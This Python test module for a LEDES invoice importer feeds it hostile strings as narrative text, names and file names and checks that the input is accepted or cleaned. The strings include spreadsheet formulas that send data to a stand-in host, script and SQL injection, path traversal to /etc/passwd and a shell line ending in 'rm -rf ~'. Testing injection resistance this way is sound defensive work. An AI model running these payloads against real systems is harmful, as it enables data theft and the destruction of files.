"""Texts that try to become a formula, a page, a query or a path, and texts too long for comfort."""

from .builder import BASIC_ROWS, changed, ledes
from .case import BASIC, Case, accepted, case, clean

TEXTS = {
    "formula": '=HYPERLINK("http://192.0.2.1/?q="&A1,"facture")',
    "formula_plus": "+1+cmd'/C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd",
    "formula_minus": "-2+3",
    "html": "<img src=x onerror=alert(1)><script>fetch('http://192.0.2.1')</script>",
    "markdown": "![x](http://192.0.2.1/p.png) [a](javascript:alert(1)) $\\LaTeX$ :material/bolt:",
    "sql": "'); DROP TABLE lines; --",
    "template": "{{7*7}} ${7*7} #{7*7} %s %(x)s {0} {x!r}",
    "path": "../../../../etc/passwd",
    "windows_path": "\\\\192.0.2.1\\share\\x.ico",
    "shell": "$(touch /tmp/x) `id` ; rm -rf ~",
    "json": '"}],"files":[{"status":"imported"}]',
    "backslashes": "\\N \\. \\t \\",
    "header_names": "INVOICE_NUMBER INVOICE_DATE LINE_ITEM_TOTAL",
    "format_line": "LEDES1998B",
}
FILENAMES = {
    "glob": "[avalon]_*.txt",
    "formula": "=cmd.txt",
    "quotes": 'l\'été "2026"; DROP.txt',
    "upper_case": "FACTURE (1).TXT",
    "edi": "facture.edi",
    "none": "facture",
    "xlsx": "facture.xlsx",
    "pdf": "facture.pdf",
    "xml": "facture.xml",
    "csv": "facture.csv",
    "accents": "Relevé n° 12 – été.txt",
    "markup": "<b>![x](y).txt",
}

CASES: tuple[Case, ...] = (
    *(
        case(f"narrative_{name}", ledes(changed(BASIC_ROWS, 1, text=text)), clean(BASIC), rows=BASIC_ROWS)
        for name, text in TEXTS.items()
    ),
    *(
        case(
            f"names_{name}",
            ledes(changed(BASIC_ROWS, number=text, firm=text, matter=text, name=text, client=text)),
            accepted(BASIC.but(number=text, firm=text, matters=frozenset({text}))),
            rows=changed(BASIC_ROWS, number=text, firm=text),
        )
        for name, text in TEXTS.items()
    ),
    *(
        case(f"filename_{name}", ledes(BASIC_ROWS), accepted(BASIC), filename=filename, rows=BASIC_ROWS)
        for name, filename in FILENAMES.items()
    ),
    case("narrative_15_kb", ledes(changed(BASIC_ROWS, text="Analyse. " * 1700)), clean(BASIC), rows=BASIC_ROWS),
    case(
        "narrative_1_mb",
        ledes(changed(BASIC_ROWS, 1, text="Analyse. " * 120_000)),
        accepted(BASIC),
        rows=BASIC_ROWS,
    ),
    case(
        "number_of_10000_letters",
        ledes(changed(BASIC_ROWS, number="F" * 10_000)),
        accepted(BASIC.but(number="F" * 10_000)),
    ),
)
